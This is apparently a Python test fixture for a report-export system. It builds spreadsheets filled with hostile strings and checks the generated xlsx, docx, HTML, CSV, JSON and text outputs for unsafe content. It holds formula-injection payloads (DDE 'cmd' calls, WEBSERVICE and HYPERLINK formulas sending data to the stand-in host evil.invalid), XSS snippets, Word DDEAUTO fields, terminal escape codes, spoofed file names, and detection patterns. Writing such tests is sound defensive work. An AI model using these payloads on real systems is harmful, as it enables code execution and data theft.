"""Words that are made to do harm where they are shown, in every field of a plan, and what must not come of them."""

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

from trials.hostile_files import BOOK, COLUMNS, COMMENTS, HEAD, MAIN, OFFICE, plan, row, sheet

MARK = "evil.invalid"
"""Stands in what would call, run or fetch something: it may be seen as words, and nowhere else."""
WORDS = {
    "a command": f"=cmd|'/c start {MARK}'!A0",
    "a sum with a command": f"+1+cmd|'/c {MARK}'!A0",
    "a difference": f"-2+3+cmd|'/c {MARK}'!A0",
    "an old function": f"@SUM(1+1)*cmd|'/c {MARK}'!A0",
    "a tab": f"_x0009_=cmd|'/c {MARK}'!A0",
    "a return": f"_x000D_=cmd|'/c {MARK}'!A0",
    "a line feed": f"_x000A_=cmd|'/c {MARK}'!A0",
    "a wide sign": f"\uff1dcmd|'/c {MARK}'!A0",
    "a wide plus": f"\uff0b1+cmd|'/c {MARK}'!A0",
    "a link that is worked out": f'=HYPERLINK("http://{MARK}/?"&amp;A1,"look")'.replace("&amp;", "&"),
    "a service": f'=WEBSERVICE("http://{MARK}/x")',
    "a picture": f'=IMAGE("http://{MARK}/x.png")',
    "a query": f'=FILTERXML("http://{MARK}/x","//a")',
    "a share": f"\\\\{MARK}\\share\\plan.xlsx",
    "an address": f"http://{MARK}/a?b=1&c=2",
    "a file": f"file:///{MARK}/etc/passwd",
    "a script": f"<script src='http://{MARK}/x.js'>alert(1)</script>",
    "a picture that fails": f'<img src="http://{MARK}/x.png" onerror=alert(1)>',
    "an attribute": f"\" onmouseover=\"alert('{MARK}')\" x=\"",
    "another attribute": f"' onfocus='alert(\"{MARK}\")' autofocus='",
    "the end of a style": f"</style><script>alert('{MARK}')</script>",
    "the end of a title": f"</title></h1></table><svg onload=alert('{MARK}')>",
    "the end of a remark": f"--><script>alert('{MARK}')</script><!--",
    "a scheme": f"javascript:alert('{MARK}')",
    "escaped twice": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "codes of a page's foot": '&"Wingdings,Bold"&72&P&G&D&[File] &K00FF00',
    "a field of Word": f'{{ INCLUDEPICTURE "http://{MARK}/x.png" }} {{ DDEAUTO c:\\\\windows cmd }}',
    "a terminal's codes": "_x001B_[2J_x001B_]0;owned_x0007__x001B_[31mred",
    "a terminal's newer codes": "\x9b31m \x9d0;owned\x9c \x90q\x9c",
    "a nought": "nought _x0000_ in it",
    "half a pair": "half _xD83D_ and _xDE00_ halves",
    "no character": "none _xFFFE__xFFFF_ of them",
    "an escape that is escaped": "_x005F_x001B_[31m and _x005F_x000D_=1+1",
    "the other direction": "plan \u202egpj.exe\u202c \u2066x\u2069",
    "no width": "Comp\u200blete\u2060d\ufeff \u00adnot",
    "a name of a cell": "A1:XFD1048576",
    "the end of an element": "]]></t></is></c><c><f>1+1</f></c>",
    "a template": "{{ 7*7 }} ${7*7} %(x)s {0} {x.__class__} %n%s",
    "markup of ours": "[bold red]x[/] [link=http://evil.invalid]y[/link] :smile:",
}
"""Each by what it is, as a cell holds it in its XML."""
SAFE = frozenset({"\t", "\n", "\r"})
NAMES = ("=cmd.xlsx", "+1.xlsx", "-x.xlsx", "@a.xlsx", "<img src=x onerror=alert(1)>.xlsx", "a & \"b\" 'c'.xlsx",
         "javascript:alert(1).xlsx", "\x1b[31mred.xlsx", "\u202excod.xlsx", "\\\\evil.invalid\\share.xlsx")  # fmt: skip
"""What returns may be called where the system allows it."""
SHEETS = ("=1+1", "<b>x</b>", "'quoted'!A1", "&\"Arial\"&P", "\u202eplan")
"""What sheets may be called."""
REASON = "HoN"


def attribute(words: str) -> str:
    """Words as they stand in an attribute of XML."""
    return words.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;")


def hostile_plan(path: Path, called: str = "Plan", place: int = 0) -> None:
    """A plan with these words in every field that reaches an output, beginning with one of them."""
    words = list(WORDS.values())
    words = words[place:] + words[:place]
    first, second = words[0], words[1]
    lines = [row(1, (first,)), row(2, ("Team", "", second)), row(3, ("Plan owner", "", words[2]))]
    lines += [row(4, (f"Purpose: {words[3]}",)), row(6, (*COLUMNS, f"Our note {words[4]}", words[5]))]
    number = 7
    for theme, some in enumerate((words[::2], words[1::2]), 1):
        lines.append(row(number, (f"{theme}. {some[0]}",)))
        for offset, one in enumerate(some, 1):
            number += 1
            target = "30/06/2018" if offset % 2 else f"30/06/2018 {one}"
            rag = ("Amber", "Green", "Red", one)[offset % 4]
            cells = (f"{theme}.{offset}", one, f"{one} {offset}", one, target, one, one, rag, one, one)
            lines.append(row(number, cells))
        number += 1
    book = f'{HEAD}<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="{attribute(called)}" sheetId="1" '
    notes = "".join(
        f'<comment ref="C{place}"><text><t>{attribute(one)}</t></text></comment>' for place, one in enumerate(words, 8)
    )
    merges = '<mergeCells><mergeCell ref="A1:H1"/></mergeCells>'
    members = {
        BOOK: f'{book}r:id="rId1"/></sheets></workbook>',
        COMMENTS: f'{HEAD}<comments xmlns="{MAIN}"><commentList>{notes}</commentList></comments>',
    }
    plan(path, members, sheet=sheet("".join(lines), after=merges))


def hostile_returns(folder: Path) -> list[Path]:
    """A folder of returns with such words, under such names as the system allows, on sheets of such names."""
    made = []
    folder.mkdir(parents=True, exist_ok=True)
    for place, name in enumerate(NAMES):
        path = folder / name
        try:
            hostile_plan(path, SHEETS[place % len(SHEETS)], place * 4 % len(WORDS))
        except (OSError, ValueError):
            continue  # Windows has no such name
        made.append(path)
    return made


def faults_of(path: Path) -> list[str]:
    """What is wrong with a file that was made from such words, a sentence each; none where it is harmless."""
    return [f"{path.name}: {fault}" for fault in dict.fromkeys(CHECKS[path.suffix](path))]


def _package_faults(path: Path) -> Iterator[str]:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            content = package.read(name)
            if name.endswith((".xml", ".rels")):
                yield from _part_faults(name, content)
            if re.search(r"externalLink|connections|queryTable|vba|macro|oleObject|activeX|customXml|altChunk", name):
                yield f"there is a part {name}"


def _part_faults(name: str, content: bytes) -> Iterator[str]:
    try:
        root = ElementTree.fromstring(content)
    except ElementTree.ParseError as error:
        yield f"{name} is not well formed: {error}"
        return
    for element in root.iter():
        tag = element.tag.rpartition("}")[2]
        text = element.text or ""
        if tag in PRINTED and (active := ACTIVE.search(text.replace("&&", ""))):
            yield f"{name} prints by a code of the plan's: {active[0]!r} in {text[:60]!r}"
        if tag in BARRED or (tag in CODES and MARK in QUOTED.sub("", text)):
            yield f"{name} has an element {tag} {text[:60]!r}"
        if tag in ("t", "v", "f") and name.startswith("xl/") and (odd := _odd(_as_excel_reads(text))):
            yield f"{name} holds {odd!r} in {text[:40]!r}"
        if tag == "Relationship" and element.get("TargetMode") == "External" and not _to_a_source(element):
            yield f"{name} points to {element.get('Target')!r}"


BARRED = frozenset({"ddeLink", "oleLink", "instrText", "object", "externalReference", "webPublishItem", "altChunk"})
CODES = frozenset({"f", "formula", "formula1", "formula2", "definedName", "fldSimple"})
PRINTED = frozenset({"oddFooter", "oddHeader", "evenFooter", "evenHeader", "firstFooter", "firstHeader"})
QUOTED = re.compile('"(?:[^"]|"")*"')
"""Words within a formula, which are no part of what it does."""
ACTIVE = re.compile(r'&(?:[GDTFZKE\[]|"Wingdings|72)')
"""Codes of the head or foot of a page that none of ours has."""


def _to_a_source(relation: ElementTree.Element) -> bool:
    """Whether a link leads to a file beside the master, as it should: a path without a scheme or a server."""
    target = relation.get("Target", "")
    kind = relation.get("Type", "").endswith("/hyperlink")
    return kind and not re.match(r"[a-z][a-z0-9+.-]*:|//|\\\\|/\\|\\/", target, re.IGNORECASE)


def _as_excel_reads(text: str) -> str:
    return re.sub("_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match[1], 16)), text)


def _odd(text: str) -> str:
    return "".join(sorted({one for one in text if (ord(one) < 32 and one not in SAFE) or "\ud800" <= one <= "\udfff"}))


class _Page(HTMLParser):
    """Takes down what a browser would do with a page."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.styles = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.styles += tag == "style"
        if tag in ("script", "img", "iframe", "object", "embed", "link", "base", "form", "input", "image", "use"):
            self.faults.append(f"there is an element {tag}")
        for name, value in attrs:
            if name.startswith("on") or name in ("src", "srcset", "action", "formaction", "background", "ping"):
                self.faults.append(f"{tag} has an attribute {name}")
            if name in ("href", "xlink:href") and not (value or "").startswith("#"):
                self.faults.append(f"{tag} leads to {value!r}")
            if name == "style" and MARK in (value or ""):
                self.faults.append(f"{tag} has a style {value!r}")


def _page_faults(path: Path) -> Iterator[str]:
    text, page = path.read_text(encoding="utf-8"), _Page()
    page.feed(text)
    page.close()
    yield from page.faults
    if page.styles > 1:
        yield "there is a style of the plan's"
    if odd := _odd(text):
        yield f"it holds {odd!r}"
    yield from (f"its style asks for {found}" for found in re.findall(r"@import|url\([^)]*\)", text) if MARK in found)


def _table_faults(path: Path) -> Iterator[str]:
    for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
        for words in line:
            if words.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")):
                yield f"a cell begins as a formula does: {words[:40]!r}"
            if odd := _odd(words):
                yield f"it holds {odd!r} in {words[:40]!r}"


def _json_faults(path: Path) -> Iterator[str]:
    text = path.read_text(encoding="utf-8")
    try:
        json.loads(text)
    except ValueError as error:
        yield f"it is no JSON: {error}"
    if odd := _odd(text):
        yield f"it holds {odd!r}"


def _screen_faults(path: Path) -> Iterator[str]:
    text = path.read_bytes().decode("utf-8", "surrogateescape")
    found = sorted({one for one in text if one != "\n" and (not one.isprintable() and one != "\xa0")})
    if found:
        at = text.index(found[0])
        yield f"it shows {''.join(found)!r} as in {text[max(0, at - 30) : at + 10]!r}"


CHECKS: Mapping[str, Callable[[Path], Iterator[str]]] = {
    ".xlsx": _package_faults, ".docx": _package_faults, ".html": _page_faults, ".csv": _table_faults,
    ".json": _json_faults, ".txt": _screen_faults,
}  # fmt: skip
"""How what is written is looked at, by the ending of its name."""
